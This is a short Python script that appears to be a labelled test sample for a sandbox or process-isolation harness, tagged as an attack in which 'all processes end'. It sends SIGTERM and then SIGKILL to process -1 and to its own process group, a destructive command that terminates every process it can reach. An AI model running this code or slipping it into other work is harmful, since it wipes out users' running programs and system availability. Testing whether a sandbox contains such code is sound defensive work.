# attack: kill(-1): all processes end
# harmless: no
import os
import signal

for kill in (os.kill, lambda pid, number: os.killpg(0, number)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            kill(-1, number)
        except OSError as error:
            print(number, error, flush=True)
